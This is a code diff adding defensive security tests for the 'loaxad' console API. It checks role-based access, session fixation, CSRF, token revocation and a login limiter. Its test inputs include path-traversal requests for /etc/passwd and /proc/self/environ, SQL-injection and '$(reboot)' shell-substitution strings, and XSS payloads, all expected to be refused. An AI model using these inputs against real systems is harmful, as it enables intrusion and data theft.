+    CReq("user: a token label is a number", "admin", "POST",
+         U_ + "/an/tokens", {"label": 5}, **UV(("label", "wrong_type"))),
+    CReq("user: DELETE token abc", "admin", "DELETE", U_ + "/an/tokens/abc",
+         expect=[(404, "not_found"), (400, "bad_request")]),
+    CReq("user: DELETE token 2^63", "admin", "DELETE",
+         U_ + "/an/tokens/%d" % I64,
+         expect=[(404, "not_found"), (400, "bad_request")]),
+    CReq("user: DELETE another user's token id", "admin", "DELETE",
+         lambda cx: U_ + "/an/tokens/%d" % cx.ids["minh-token"],
+         expect=(404, "not_found")),
+    # ---- a manager's session outside the role ----
+    CReq("manager: POST /v1/users", "manager", "POST", U_,
+         newuser(name="minh2", role="admin"), (403, "forbidden")),
+    CReq("manager: made admin by themself", "manager", "PATCH",
+         U_ + "/minh", {"role": "admin"}, (403, "forbidden")),
+    CReq("manager: given 2B by themself", "manager", "PATCH",
+         U_ + "/minh", {"groups": ["2A", "2B"]}, (403, "forbidden")),
+    CReq("manager: another user's password", "manager", "PATCH",
+         U_ + "/lan", {"password": "another good one"}, (403, "forbidden")),
+    CReq("manager: another user's password, case-folded path", "manager",
+         "PATCH", U_ + "/LAN", {"password": "another good one"},
+         (403, "forbidden")),
+    CReq("manager: own password with a wrong old one", "manager", "PATCH",
+         U_ + "/minh", {"password": "another good one",
+                        "old_password": "' OR 1=1 --"},
+         **UV(("old_password", "wrong"))),
+    CReq("manager: a token for another user", "manager", "POST",
+         U_ + "/an/tokens", {"label": "x"}, (403, "forbidden")),
+    CReq("manager: the audit log", "manager", "GET", "/v1/audit",
+         expect=(403, "forbidden")),
+    CReq("manager: PUT /v1/log", "manager", "PUT", "/v1/log",
+         {"level": "debug"}, (403, "forbidden")),
+    CReq("manager: a backup", "manager", "POST", "/v1/backup",
+         expect=(403, "forbidden")),
+    CReq("manager: metrics", "manager", "GET", "/metrics",
+         expect=(403, "forbidden")),
+    CReq("manager: add a group", "manager", "POST", "/v1/groups",
+         {"code": "9Z", "name": "x"}, (403, "forbidden")),
+    CReq("manager: delete group 2B", "manager", "DELETE",
+         "/v1/groups/2B?force=1", expect=(403, "forbidden")),
+    # ---- the household form as a manager of 2A ----
+    CReq("household: group 2B", "manager", "POST", H,
+         lambda: hh(group="2B"), (403, "forbidden")),
+    CReq("household: group 2B by its name", "manager", "POST", H,
+         lambda: hh(group="Nhóm dân cư 2B"), (403, "forbidden")),
+    CReq("household: group 2b (case)", "manager", "POST", H,
+         lambda: hh(group="2b"), (403, "forbidden")),
+    CReq("household: edit one of 2B", "manager", "PATCH", hh_path("b2"),
+         {"name": "x"}, (403, "forbidden")),
+    CReq("household: move one of 2A to 2B", "manager", "PATCH",
+         hh_path("a2"), {"group": "2B"}, (403, "forbidden")),
+    CReq("household: delete one of 2B", "manager", "DELETE", hh_path("b2"),
+         expect=(403, "forbidden")),
+    CReq("household: opt out one of 2B", "manager", "POST",
+         hh_path("b2", "/opt-out"), expect=(403, "forbidden")),
+    CReq("household: read one of 2B", "manager", "GET", hh_path("b2"),
+         expect=(403, "forbidden")),
+    CReq("household: list 2B", "manager", "GET", H + "?group=2B",
+         expect=(403, "forbidden")),
+    CReq("household: history of one of 2B", "manager", "GET",
+         hh_path("b2", "/history"), expect=[(403, "forbidden"),
+                                            (404, "not_found")]),
+    CReq("household: import into 2B", "manager", "POST",
+         "/v1/import?group=2B", b"ho_ten,sdt\nAn,0977500002\n",
+         (403, "forbidden"), headers=CSV_CT),
+    CReq("household: export 2B", "manager", "GET", "/v1/export?group=2B",
+         expect=(403, "forbidden")),
+    CReq("household: the list holds 2A only", "manager", "GET",
+         H + "?limit=1000", expect=(200, None),
+         check=lambda t, cx, r: t.assertEqual(
+             {x["group"] for x in r.body["households"]}, {"2A"})),
+    # ---- the broadcast form as a manager of 2A ----
+    CReq("broadcast: group 2B", "manager", "POST", B,
+         lambda: meeting(groups=["2B"]), (403, "forbidden")),
+    CReq("broadcast: groups 2A and 2B", "manager", "POST", B,
+         lambda: meeting(groups=["2A", "2B"]), (403, "forbidden")),
+    CReq("broadcast: group 2B by its name", "manager", "POST", B,
+         lambda: notice(groups=["nhom dan cu 2b"]), (403, "forbidden")),
+    CReq("broadcast: all groups", "manager", "POST", B,
+         lambda: notice(groups="all"), (403, "forbidden")),
+    CReq("broadcast: an all_groups field", "manager", "POST", B,
+         lambda: notice(groups=["2A"], all_groups=True),
+         **V(("all_groups", "unknown_field"))),
+    CReq("broadcast: urgent to 2A", "manager", "POST", B,
+         lambda: notice(groups=["2A"], priority="urgent"),
+         (403, "forbidden")),
+    CReq("broadcast: urgent to all", "manager", "POST", B,
+         lambda: notice(groups="all", priority="urgent"),
+         (403, "forbidden")),
+    CReq("broadcast: requested_by in the body", "manager", "POST", B,
+         lambda: meeting(groups=["2A"], requested_by="an"),
+         **V(("requested_by", "unknown_field"))),
+    CReq("broadcast: approve broadcast 2^63", "manager", "POST",
+         B + "/%d/approve" % I64, expect=[(403, "forbidden"),
+                                          (404, "not_found")]),
+    CReq("broadcast: reject with a reason of the wrong type", "admin",
+         "POST", B + "/999999/reject", {"reason": 5},
+         [(404, "not_found"), (422, "invalid")]),
+    CReq("broadcast: preview to 2B (nothing sent)", "manager", "POST", P,
+         lambda: meeting(groups=["2B"]), [(200, None), (403, "forbidden")]),
+    CReq("broadcast: the list holds none of another's", "manager", "GET", B,
+         expect=(200, None),
+         check=lambda t, cx, r: t.assertEqual(r.body["broadcasts"], [])),
+    # ---- the console's static files ----
+    CReq("static: /../etc/passwd", "admin", "GET", "/../etc/passwd",
+         expect=(404, "not_found"), check=no_passwd),
+    CReq("static: /../etc/passwd with no session", "anon", "GET",
+         "/../etc/passwd", expect=[(401, "unauthorized"),
+                                   (404, "not_found")], check=no_passwd),
+    CReq("static: /%2e%2e/", "admin", "GET", "/%2e%2e/",
+         expect=(404, "not_found"), check=no_passwd),
+    CReq("static: /%2e%2e/%2e%2e/etc/passwd", "admin", "GET",
+         "/%2e%2e/%2e%2e/etc/passwd", expect=(404, "not_found"),
+         check=no_passwd),
+    CReq("static: encoded slashes", "admin", "GET",
+         "/index.html%2f..%2f..%2f..%2fetc%2fpasswd",
+         expect=(404, "not_found"), check=no_passwd),
+    CReq("static: backslashes", "admin", "GET", "/..%5c..%5cetc%5cpasswd",
+         expect=(404, "not_found"), check=no_passwd),
+    CReq("static: //etc/passwd", "admin", "GET", "//etc/passwd",
+         expect=(404, "not_found"), check=no_passwd),
+    CReq("static: /app.js/../../etc/passwd", "admin", "GET",
+         "/app.js/../../etc/passwd", expect=(404, "not_found"),
+         check=no_passwd),
+    CReq("static: /index.html%00", "admin", "GET", "/index.html%00",
+         expect=[(404, "not_found"), (400, "bad_request")]),
+    CReq("static: /index.html%00.png", "admin", "GET", "/index.html%00.png",
+         expect=[(404, "not_found"), (400, "bad_request")]),
+    CReq("static: /index.html/", "admin", "GET", "/index.html/",
+         expect=(404, "not_found")),
+    CReq("static: /INDEX.HTML", "admin", "GET", "/INDEX.HTML",
+         expect=(404, "not_found")),
+    CReq("static: /./index.html", "admin", "GET", "/./index.html",
+         expect=[(404, "not_found"), (200, None)]),
+    CReq("static: the sources", "admin", "GET", "/console/app.js",
+         expect=(404, "not_found")),
+    CReq("static: /.git/config", "admin", "GET", "/.git/config",
+         expect=(404, "not_found"), check=no_passwd),
+    CReq("static: /meson.build", "admin", "GET", "/meson.build",
+         expect=(404, "not_found"), check=no_passwd),
+    CReq("static: /proc/self/environ", "admin", "GET", "/proc/self/environ",
+         expect=(404, "not_found"), check=no_passwd),
+    CReq("static: the database", "admin", "GET", "/loaxa.db",
+         expect=(404, "not_found")),
+    CReq("static: invalid UTF-8", "admin", "GET", "/%ff%fe.js",
+         expect=(400, "bad_request")),
+    CReq("static: 8000-character path", "admin", "GET", "/" + "a" * 8000,
+         expect=(404, "not_found")),
+    CReq("static: 100 KB path", "anon", "GET", "/" + "a" * LONG,
+         expect=[(414, None), (431, None)]),
+    CReq("static: /app.js?x=<script>", "anon", "GET",
+         "/app.js?x=<script>alert(1)</script>", expect=(200, None),
+         check=asset("app.js", ("text/javascript",
+                                "application/javascript"))),
+    CReq("static: /?x=%00", "anon", "GET", "/?x=%00&y=%ff",
+         expect=[(200, None), (400, "bad_request")]),
+    CReq("static: / with a hostile If-None-Match", "anon", "GET", "/",
+         expect=(200, None), headers={"If-None-Match": "W/" + "\"," * 2000}),
+    CReq("static: TRACE / with no session", "anon", "TRACE", "/",
+         expect=(401, "unauthorized")),
+    CReq("static: TRACE /", "admin", "TRACE", "/",
+         expect=[(404, "not_found"), (405, "method_not_allowed")]),
+    CReq("static: PUT /", "admin", "PUT", "/", b"<script>x</script>",
+         expect=[(404, "not_found"), (405, "method_not_allowed")]),
+    CReq("static: PUT /index.html with no session", "anon", "PUT",
+         "/index.html", b"<script>x</script>", (401, "unauthorized")),
+    CReq("static: DELETE /app.js", "admin", "DELETE", "/app.js",
+         expect=[(404, "not_found"), (405, "method_not_allowed")]),
+    CReq("static: POST / with no session", "anon", "POST", "/",
+         b"user=an", (401, "unauthorized")),
+]
+
+
+# ---- console cases that take more than one request: fn(testcase, cx) ----
+
+def case_session_fixation(t, cx):
+    """A session id chosen by someone else is never taken on: the login
+    makes a new one."""
+    chosen = "lxs_" + "F" * 43
+    r = cx.d.post(LOGIN, login("lan", PW), tcp=True,
+                  headers={"Cookie": "loaxa_session=" + chosen})
+    t.assertStatus(r, 200)
+    got, sc = session_cookie(r)
+    t.assertTrue(got, sc)
+    t.assertNotEqual(got, chosen)
+    t.assertError(cx.get(ME, cookie=chosen), 401, "unauthorized")
+    cx.secrets += [got, r.body["csrf"]]
+    t.assertEqual(cx.get(ME, cookie=got).body["user"]["name"], "lan")
+
+
+def case_failed_login_sets_no_cookie(t, cx):
+    """Nothing but a right password gives a session (not SQL, not a
+    name cut by a NUL, not a case-folded name with a wrong password)."""
+    for body in (login(SQL_LOGIN, PW), login("lan\u0000", PW),
+                 login("LAN", "wrong password"), login("lan", PW.upper()),
+                 login("lan", PW + " "), login(" lan", PW)):
+        r = cx.d.post(LOGIN, body, tcp=True)
+        t.assertIn(r.status, (401, 422), (body, r))
+        t.assertNotIn("set-cookie", r.headers, r)
+
+
+def case_revoked_token(t, cx):
+    d = cx.d
+    tok = t.ok(d.post(U_ + "/tuan/tokens", {"label": "laptop"}), 201)
+    cx.secrets.append(tok["token"])
+    auth = {"Authorization": "Bearer " + tok["token"]}
+    t.assertEqual(t.ok(d.get(ME, tcp=True, headers=auth))["user"]["name"],
+                  "tuan")
+    t.assertStatus(d.delete(U_ + "/tuan/tokens/%d" % tok["id"]), 204)
+    t.assertError(d.get(ME, tcp=True, headers=auth), 401, "unauthorized")
+    t.assertError(d.get(ME, headers=auth), 401, "unauthorized")
+    t.assertError(d.post(H, hh(), tcp=True, headers=auth), 401,
+                  "unauthorized")
+    # deleting it again: gone
+    t.assertError(d.delete(U_ + "/tuan/tokens/%d" % tok["id"]), 404,
+                  "not_found")
+
+
+def case_disabled_user(t, cx):
+    """A disabled user's token and session stop at once; enabling the
+    user again brings the token back but not the session."""
+    d = cx.d
+    tok = t.ok(d.post(U_ + "/vy/tokens", {"label": "phone"}), 201)
+    cookie, csrf = cx.login("vy")
+    cx.secrets += [tok["token"], cookie, csrf]
+    auth = {"Authorization": "Bearer " + tok["token"]}
+    t.ok(d.get(ME, tcp=True, headers=auth))
+    t.ok(cx.get(ME, cookie=cookie))
+    t.ok(d.patch(U_ + "/vy", {"disabled": True}))
+    t.assertError(d.get(ME, tcp=True, headers=auth), 401, "unauthorized")
+    t.assertError(d.get(ME, headers=auth), 401, "unauthorized")
+    t.assertError(cx.get(ME, cookie=cookie), 401, "unauthorized")
+    t.assertError(cx.req("POST", H, hh(), cookie=cookie, csrf=csrf), 401,
+                  "unauthorized")
+    t.assertError(d.post(LOGIN, login("vy", PW), tcp=True), 401,
+                  "bad_login")
+    t.ok(d.patch(U_ + "/vy", {"disabled": False}))
+    t.ok(d.get(ME, tcp=True, headers=auth))
+    t.assertError(cx.get(ME, cookie=cookie), 401, "unauthorized")
+
+
+def case_logout_needs_csrf(t, cx):
+    """Logout is a write: a cross-site POST cannot end the session."""
+    cookie, csrf = cx.login("tuan")
+    cx.secrets += [cookie, csrf]
+    t.assertError(cx.req("POST", "/v1/logout", cookie=cookie), 403, "csrf")
+    t.ok(cx.get(ME, cookie=cookie))
+    r = cx.req("POST", "/v1/logout", cookie=cookie, csrf=csrf)
+    t.assertStatus(r, 204)
+    t.assertIn("Max-Age=0", r.headers.get("set-cookie", ""))
+    r = cx.get(ME, cookie=cookie)
+    t.assertError(r, 401, "unauthorized")
+    clears_cookie(t, cx, r)
+    # the old session's CSRF token is no key either
+    t.assertError(cx.req("POST", H, hh(), cookie=cookie, csrf=csrf), 401,
+                  "unauthorized")
+
+
+def case_html_household(t, cx):
+    """HTML and script in a household are stored and returned verbatim,
+    as JSON text (the console sets textContent)."""
+    ids_ = []
+    for name, addr, note in ((XSS, XSS2, XSS3), (XSS2, XSS3, XSS),
+                             ("<b>Nguyễn</b> & <i>An</i> \"A\"", "'",
+                              "&lt;")):
+        r = cx.req("POST", H, hh(name=name, address=addr, note=note),
+                   who=M)
+        t.assertStatus(r, 201)
+        t.assertTrue(r.headers["content-type"].startswith(
+            "application/json"), r)
+        t.assertHousehold(r.body, name=name, address=addr, note=note)
+        ids_.append(r.body["id"])
+        got = cx.req("GET", H + "/%d" % r.body["id"], who=M)
+        t.assertEqual(got.body, r.body)
+    r = cx.req("GET", H + "?limit=1000&q=" + quote("script"), who=M)
+    t.assertStatus(r, 200)
+    t.assertIn(XSS, [x["name"] for x in r.body["households"]])
+    for i in ids_:
+        t.assertStatus(cx.req("DELETE", H + "/%d" % i, who=M), 204)
+
+
+def case_html_user_group_preview(t, cx):
+    dn = XSS2 + " Chị Lan"
+    r = cx.req("POST", U_, newuser(name="html-user", display_name=dn),
+               who="admin")
+    t.assertStatus(r, 201)
+    t.assertEqual(r.body["display_name"], dn)
+    t.assertEqual(cx.req("GET", U_ + "/html-user",
+                         who="admin").body["display_name"], dn)
+    t.assertIn(dn, [u["display_name"] for u in
+                    cx.req("GET", U_, who="admin").body["users"]])
+    r = cx.req("POST", "/v1/groups", {"code": "html", "name": XSS},
+               who="admin")
+    t.assertStatus(r, 201)
+    t.assertEqual(r.body["name"], XSS)
+    t.assertEqual(cx.req("GET", "/v1/groups/html",
+                         who="admin").body["name"], XSS)
+    t.assertStatus(cx.req("DELETE", "/v1/groups/html", who="admin"), 204)
+    r = cx.req("POST", P, meeting(groups=["2A"], title=XSS, place=XSS3,
+                                  agenda=XSS2), who=M)
+    t.assertStatus(r, 200)
+    t.assertIn(XSS, r.body["messages"][0]["text"])
+    t.assertIn(XSS3, r.body["messages"][0]["text"])
+
+
+def case_console_sets_text_only(t, cx):
+    """The console never turns text from the API into markup."""
+    r = cx.d.get("/app.js", tcp=True)
+    t.assertStatus(r, 200)
+    js = re.sub(r"/\*.*?\*/", "", r.raw.decode("utf-8"), flags=re.S)
+    js = re.sub(r"(?m)^\s*//.*$", "", js)
+    for bad in (r"\.innerHTML\s*\+?=", r"\.outerHTML\s*=",
+                r"insertAdjacentHTML\s*\(", r"document\.write",
+                r"\beval\s*\(", r"new\s+Function\s*\(",
+                r"setTimeout\s*\(\s*['\"]", r"\.html\s*\("):
+        t.assertIsNone(re.search(bad, js), "app.js uses " + bad)
+    r = cx.d.get("/", tcp=True)
+    t.assertStatus(r, 200)
+    html = re.sub(rb"<!--.*?-->", b"", r.raw, flags=re.S)
+    t.assertIsNone(re.search(rb"<script(?![^>]*\bsrc=)[^>]*>", html),
+                   "inline script in index.html")
+    t.assertIsNone(re.search(rb"<[^>]*\son[a-z]+\s*=", html),
+                   "inline event handler in index.html")
+
+
+def case_no_secrets_recorded(t, cx):
+    """After everything above: no password, session id, CSRF or bearer
+    token in the audit log or in loaxad's log."""
+    entries = []
+    before = None
+    for _ in range(100):
+        q = "/v1/audit?limit=1000" + ("&before=%d" % before if before
+                                      else "")
+        r = cx.d.get(q)
+        t.assertStatus(r, 200)
+        entries += r.body["entries"]
+        before = r.body["next_before"]
+        if not before:
+            break
+    t.assertGreater(len(entries), 50)
+    text = json.dumps(entries, ensure_ascii=False)
+    log = cx.d.log()
+    for s in cx.all_secrets():
+        t.assertNotIn(s, text, "a secret in the audit log")
+        t.assertNotIn(s, log, "a secret in loaxad's log")
+    # failed logins are there, with the tried name (valid ones only)
+    failed = [e for e in entries if e["action"] == "login_failed"]
+    t.assertGreater(len(failed), 10)
+    t.assertIn("user (invalid name)", {e["target"] for e in failed})
+    t.assertNotIn(SQL_LOGIN, text)
+
+
+CONSOLE_SPECIAL = [
+    Fn("a session id chosen by the client is not taken on",
+       case_session_fixation),
+    Fn("a failed login sets no cookie", case_failed_login_sets_no_cookie),
+    Fn("a revoked token", case_revoked_token),
+    Fn("a disabled user's token and session", case_disabled_user),
+    Fn("logout needs the CSRF header", case_logout_needs_csrf),
+    Fn("HTML and script in a household stored verbatim",
+       case_html_household),
+    Fn("HTML in a user, a group and a preview stored verbatim",
+       case_html_user_group_preview),
+    Fn("the console sets text, never markup", case_console_sets_text_only),
+    Fn("no secret in the audit log or the log", case_no_secrets_recorded),
+]
+
+
+# ---- the login limiter ([console] login_attempts = LIMIT_ATTEMPTS) ----
+# fn(testcase, cx, name): name is a user of its own (password PW), so that
+# no case's failures count for another's.
+
+def fail_login(t, cx, name, n=LIMIT_ATTEMPTS, **kw):
+    for _ in range(n):
+        r = cx.d.post(LOGIN, login(name, "wrong password"), tcp=True, **kw)
+        t.assertError(r, 401, "bad_login")
+
+
+def check_held(t, r):
+    t.assertError(r, 429, "too_many_attempts")
+    t.assertNotIn("set-cookie", r.headers, r)
+    wait = int(r.headers["retry-after"])
+    t.assertTrue(0 < wait <= 15 * 60, wait)
+
+
+def limit_basic(t, cx, name):
+    fail_login(t, cx, name)
+    check_held(t, cx.d.post(LOGIN, login(name, PW), tcp=True))
+    check_held(t, cx.d.post(LOGIN, login(name, "wrong again"), tcp=True))
+
+
+def limit_case_folded(t, cx, name):
+    """Failures of NAME, Name and nAME count for one name."""
+    for v in (name.upper(), name.capitalize(), name[0] + name[1:].upper()):
+        r = cx.d.post(LOGIN, login(v, "wrong password"), tcp=True)
+        t.assertError(r, 401, "bad_login")
+    check_held(t, cx.d.post(LOGIN, login(name, PW), tcp=True))
+
+
+def limit_forwarded_headers(t, cx, name):
+    """Forwarded-for headers do not make another address."""
+    fail_login(t, cx, name)
+    for h in ({"X-Forwarded-For": "10.1.2.3"}, {"X-Real-IP": "10.1.2.4"},
+              {"Forwarded": "for=10.1.2.5"},
+              {"X-Forwarded-For": "127.0.0.2, 10.0.0.1"}):
+        check_held(t, cx.d.post(LOGIN, login(name, PW), tcp=True,
+                                headers=h))
+
+
+def limit_bad_requests_do_not_count(t, cx, name):
+    """Malformed logins are refused before the password is tried: they
+    hold nobody back."""
+    for body in (login(name, None), login(name, 5), login(name + "\u0000",
+                                                          PW),
+                 {"user": name, "password": None}):
+        for _ in range(LIMIT_ATTEMPTS):
+            r = cx.d.post(LOGIN, body, tcp=True)
+            t.assertError(r, 422, "invalid")
+    for _ in range(LIMIT_ATTEMPTS):
+        r = cx.d.post(LOGIN, b'{"user": "%s", "password":' % name.encode(),
+                      tcp=True, headers=JSON)
+        t.assertError(r, 400, "bad_json")
+    cx.login(name)
+
+
+def limit_invalid_names(t, cx, name):
+    """Invalid names (SQL, shell, too long) are held back together, and
+    that holds back no real user."""
+    for n in (SQL_LOGIN, "$(reboot)", "x" * 65, "Lân", "a b"):
+        r = cx.d.post(LOGIN, login(n, "x"), tcp=True)
+        t.assertIn(r.status, (401, 429), r)
+    check_held(t, cx.d.post(LOGIN, login("' OR 2=2 --", "x"), tcp=True))
+    cx.login(name)
+
+
+def limit_other_name_free(t, cx, name):
+    """One name held back holds back no other name."""
+    fail_login(t, cx, name)
+    check_held(t, cx.d.post(LOGIN, login(name, PW), tcp=True))
+    cx.login("limit-free")
+
+
+LIMIT_CASES = [
+    Fn("429 and Retry-After after login_attempts failures", limit_basic),
+    Fn("failures of a name in other cases count together",
+       limit_case_folded),
+    Fn("forwarded-for headers change nothing", limit_forwarded_headers),
+    Fn("malformed logins do not count", limit_bad_requests_do_not_count),
+    Fn("invalid names are held back, real users not",
+       limit_invalid_names),
+    Fn("another name is not held back", limit_other_name_free),
+]
+
+
+# ---------------------------------------------------------------------------
 
 def hostile_extra(tmp):
     return "\n".join([
@@ -1077,13 +2123,14 @@ def hostile_extra(tmp):
 
 
 class HostileCase(DaemonCase):
-    def hostile_daemon(self):
-        d = self.daemon(start=False, api_extra="\n".join([
-            "max_body = " + MAX_BODY,
+    def hostile_daemon(self, tcp=False, max_body=MAX_BODY, extra=""):
+        d = self.daemon(start=False, tcp=tcp, api_extra="\n".join([
+            "max_body = " + max_body,
             "timeout = %ds" % API_TIMEOUT_S,
             "max_connections = %d" % MAX_CONNECTIONS]), extra="@EXTRA@")
-        d.write_config(d.config_text.replace("@EXTRA@",
-                                             hostile_extra(d.tmp)))
+        d.write_config(d.config_text.replace(
+            "@EXTRA@", hostile_extra(d.tmp) + ("\n" + extra if extra
+                                               else "")))
         path = os.path.join(d.tmp, "page-token")
         fd = os.open(path, os.O_WRONLY | os.O_CREAT, 0o600)
         with os.fdopen(fd, "w") as f:
@@ -1134,7 +2181,7 @@ class HostileCase(DaemonCase):
         self.assertNotEqual(r.status, 500, r)
         if got_code is not None:
             self.assertError(r, r.status, got_code)
-        if r.status == 422 and got_code == "validation_failed":
+        if r.status == 422 and got_code in ("validation_failed", "invalid"):
             got = [(f.get("field"), f.get("code"))
                    for f in r.body["error"].get("fields", [])]
             for field, code in fields:
@@ -1288,6 +2335,164 @@ class ConfigFiles(DaemonCase):
             for c in CONF_CASES:
                 with self.subTest(case=c.name):
                     self.check_config(tmp, c)
+
+
+# ---------------------------------------------------------------------------
+# The console daemon: users, sessions and fixtures (see CONSOLE_CASES).
+
+CONSOLE_USERS = [("an", "admin", None), ("lan", "official", None),
+                 ("minh", "manager", ["2A"]), ("hoa", "manager", ["2B"]),
+                 ("tuan", "official", None), ("vy", "official", None)]
+
+
+def session_cookie(resp):
+    sc = resp.headers.get("set-cookie", "")
+    m = re.match(r"loaxa_session=([^;]*)", sc)
+    return (m.group(1) if m else None), sc
+
+
+class ConsoleCtx:
+    """The console daemon and what the cases need of it: sessions
+    (cookie[who], csrf[who]), tokens, fixture ids, and every secret handed
+    out (none may show up in an error, the audit log or the log)."""
+
+    def __init__(self, t, d):
+        self.t, self.d = t, d
+        self.cookie, self.csrf, self.token, self.ids = {}, {}, {}, {}
+        self.secrets = [PW, harness.Daemon.TOKEN]
+
+    def login(self, name, password=PW):
+        r = self.d.post(LOGIN, login(name, password), tcp=True)
+        self.t.assertStatus(r, 200)
+        cookie, sc = session_cookie(r)
+        self.t.assertTrue(cookie, sc)
+        self.secrets += [cookie, r.body["csrf"]]
+        return cookie, r.body["csrf"]
+
+    def req(self, method, path, body=None, who=None, cookie=None,
+            csrf=None, headers=None):
+        h = {}
+        if who:
+            cookie, csrf = self.cookie[who], self.csrf[who]
+        if cookie:
+            h["Cookie"] = "loaxa_session=" + cookie
+        if csrf and method not in ("GET", "HEAD"):
+            h["X-CSRF-Token"] = csrf
+        if headers:
+            h.update(headers)
+        return self.d.request(method, path, body=body, headers=h, tcp=True)
+
+    def get(self, path, **kw):
+        return self.req("GET", path, **kw)
+
+    def all_secrets(self):
+        return [s for s in self.secrets if s]
+
+
+class ConsoleForms(HostileCase):
+    def ok(self, resp, status=200):
+        self.assertStatus(resp, status)
+        return resp.body
+
+    def console(self, attempts):
+        d = self.hostile_daemon(tcp=True, max_body=CONSOLE_MAX_BODY,
+                                extra="[console]\nlogin_attempts = %d\n"
+                                % attempts)
+        cx = ConsoleCtx(self, d)
+        for name, role, groups in CONSOLE_USERS:
+            body = newuser(name=name, role=role)
+            if groups:
+                body["groups"] = groups
+            self.ok(d.post(U_, body), 201)
+        return cx
+
+    def send_console(self, cx, c):
+        body = c.body() if callable(c.body) else c.body
+        hdrs = dict(JSON) if isinstance(body, bytes) else {}
+        if c.who in cx.cookie:
+            hdrs["Cookie"] = "loaxa_session=" + cx.cookie[c.who]
+            if c.csrf is CSRF_OK:
+                if c.method not in ("GET", "HEAD"):
+                    hdrs["X-CSRF-Token"] = cx.csrf[c.who]
+            elif c.csrf is not None:
+                hdrs["X-CSRF-Token"] = c.csrf(cx) if callable(c.csrf) \
+                    else c.csrf
+        if c.headers:
+            hdrs.update(c.headers(cx) if callable(c.headers) else c.headers)
+        hdrs = {k: v for k, v in hdrs.items() if v is not None}
+        path = c.path(cx) if callable(c.path) else c.path
+        r = cx.d.request(c.method, path, body=body, headers=hdrs,
+                         tcp=c.who != "unix", timeout=60)
+        r.sent_cookie = hdrs.get("Cookie")
+        return r
+
+    def check_no_leak(self, cx, r, sent_cookie=None):
+        """A refused request gets no secret back and no new session: a
+        Set-Cookie clears, or refreshes the session that was sent."""
+        if r.status < 400:
+            return
+        for s in cx.all_secrets():
+            self.assertNotIn(s.encode(), r.raw, "a secret in %r" % (r,))
+        got, sc = session_cookie(r)
+        if got and "Max-Age=0" not in sc:
+            sent = sent_cookie or ""
+            if isinstance(sent, bytes):
+                sent = sent.decode("latin-1")
+            self.assertIn("loaxa_session=" + got, sent,
+                          "a refused request got a new session: %s" % sc)
+
+    def check_serving_tcp(self, d, name):
+        self.check_serving(d, name)
+        r = d.get("/v1/status", tcp=True, timeout=10, headers={
+            "Authorization": "Bearer " + d.TOKEN})
+        self.assertStatus(r, 200, "on TCP after case %r" % name)
+
+    def check_log_clean(self, d):
+        """No error (priority 0..3) in loaxad's log."""
+        bad = [x for x in d.log().splitlines() if re.match(r"<[0-3]>", x)]
+        self.assertEqual(bad, [], "errors in loaxad's log")
+
+    def test_console_forms(self):
+        cx = self.console(CONSOLE_ATTEMPTS)
+        d = cx.d
+        for who, name in (("admin", "an"), ("official", "lan"),
+                          (M, "minh")):
+            cx.cookie[who], cx.csrf[who] = cx.login(name)
+        t = self.ok(d.post(U_ + "/minh/tokens", {"label": "hostile"}), 201)
+        cx.token[M], cx.ids["minh-token"] = t["token"], t["id"]
+        cx.secrets.append(t["token"])
+        cx.ids["a2"] = self.ok(d.post(H, hh(group="2A")), 201)["id"]
+        cx.ids["b2"] = self.ok(d.post(H, hh(group="2B")), 201)["id"]
+        self.assertGreaterEqual(len(CONSOLE_CASES) + len(CONSOLE_SPECIAL),
+                                40)
+        for c in CONSOLE_CASES:
+            with self.subTest(case=c.name):
+                r = self.send_console(cx, c)
+                self.check_answer(r, c.expect, c.fields)
+                self.check_no_leak(cx, r, r.sent_cookie)
+                if c.check:
+                    c.check(self, cx, r)
+            with self.subTest(case=c.name, check="keeps serving"):
+                self.check_serving_tcp(d, c.name)
+        for c in CONSOLE_SPECIAL:
+            with self.subTest(case=c.name):
+                c.fn(self, cx)
+            with self.subTest(case=c.name, check="keeps serving"):
+                self.check_serving_tcp(d, c.name)
+        self.check_log_clean(d)
+
+    def test_login_limiter(self):
+        cx = self.console(LIMIT_ATTEMPTS)
+        d = cx.d
+        names = ["limit-%c" % (ord("a") + i) for i in range(len(LIMIT_CASES))]
+        for name in names + ["limit-free"]:
+            self.ok(d.post(U_, newuser(name=name)), 201)
+        for c, name in zip(LIMIT_CASES, names):
+            with self.subTest(case=c.name):
+                c.fn(self, cx, name)
+            with self.subTest(case=c.name, check="keeps serving"):
+                self.check_serving_tcp(d, c.name)
+        self.check_log_clean(d)
 
 
 if __name__ == "__main__":
